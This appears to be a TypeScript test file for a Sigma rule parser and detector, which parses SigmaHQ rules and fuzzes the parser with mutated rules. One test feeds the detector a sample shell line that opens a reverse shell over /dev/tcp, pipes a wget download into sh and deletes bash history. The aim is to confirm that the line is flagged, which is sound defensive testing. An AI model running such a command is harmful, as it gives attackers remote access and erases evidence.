import { existsSync, readdirSync, readFileSync } from 'node:fs'
import { resolve } from 'node:path'
import { describe, expect, test } from 'vitest'
import { createRandom } from '../../core/random.fixture.ts'
import { createSigmaDetector } from './detect.ts'
import { linkRules } from './link.ts'
import { parseSigma } from './parse.ts'
import { eventOf } from './sigma.fixture.ts'

const root = resolve(import.meta.dirname, '../../../../..')
const folder = resolve(root, process.env['CARAPACE_DATA'] ?? '../shared/data', 'sigma')
const here = existsSync(folder)
if (!here) console.log(`Sigma rules of SigmaHQ: skipped, ${folder} is not there.`)

function textsIn(name: string): { file: string; text: string }[] {
  const inside = resolve(folder, name)
  return readdirSync(inside)
    .filter((file) => file.endsWith('.yml'))
    .map((file) => ({ file, text: readFileSync(resolve(inside, file), 'utf8') }))
}

const pieces = [
  '|',
  ':',
  '- ',
  '    ',
  '"',
  "'",
  '*',
  '\\',
  '(',
  ')',
  ' and ',
  ' of ',
  'not ',
  '|all',
  '|re',
  '{',
  '[',
  '&a ',
  '*a',
  '%',
  '\n',
  '\0',
  '|base64offset',
  'null',
  '1e999',
]

/** Deletes, repeats, swaps or inserts a piece of the text, one to four times. */
function mutated(text: string, random: (below: number) => number): string {
  let changed = text
  for (let times = random(4); times >= 0; times -= 1) {
    const at = random(changed.length + 1)
    const to = Math.min(changed.length, at + random(20))
    const kept = [
      '',
      changed.slice(at, to).repeat(2),
      pieces[random(pieces.length)]! + changed.slice(at, to),
      changed.slice(at, to).toUpperCase(),
    ][random(4)]!
    changed = changed.slice(0, at) + kept + changed.slice(to)
  }
  return changed
}

describe.runIf(here)('rules of SigmaHQ', () => {
  test('[SIGMA-1] every rule is read and evaluated', () => {
    const texts = textsIn('rules')
    expect(texts.length).toBeGreaterThan(0)
    const parsed = texts.map(({ file, text }) => ({ file, ...parseSigma(text) }))
    expect(parsed.filter(({ faults, warnings }) => faults.length + warnings.length > 0)).toEqual([])
    const rules = linkRules(parsed.flatMap(({ documents }) => documents))
    const detector = createSigmaDetector(rules)
    const linux = { product: 'linux' } as const
    const line = 'bash -c /bin/bash 0</dev/tcp/10.0.0.1/443; wget http://x - http://y | sh; rm ~/.bash_history'
    const hits = detector.step(eventOf({ message: line }, 0, linux))
    expect(hits.map(({ number }) => rules.detections[number]!.title)).toContain('Suspicious Activity in Shell Commands')
  })

  test('[SIGMA-30] every schema sample of correlations and filters is read', () => {
    const texts = textsIn('correlation')
    expect(texts.length).toBeGreaterThan(0)
    const faults = texts.flatMap(({ file, text }) => parseSigma(text).faults.map((fault) => ({ file, ...fault })))
    expect(faults).toEqual([])
  })

  test('[SIGMA-1] 10,000 mutated rules are rules or faults', () => {
    const texts = [...textsIn('rules'), ...textsIn('correlation')].map(({ text }) => text)
    const random = createRandom(1)
    let refused = 0
    for (let count = 0; count < 10_000; count += 1) {
      const { documents, faults } = parseSigma(mutated(texts[count % texts.length]!, random))
      expect(documents.length + faults.length).toBeGreaterThan(0)
      linkRules(documents)
      refused += faults.length > 0 ? 1 : 0
    }
    expect(refused).toBeGreaterThan(1_000)
    expect(refused).toBeLessThan(9_000)
  }, 120_000)
})
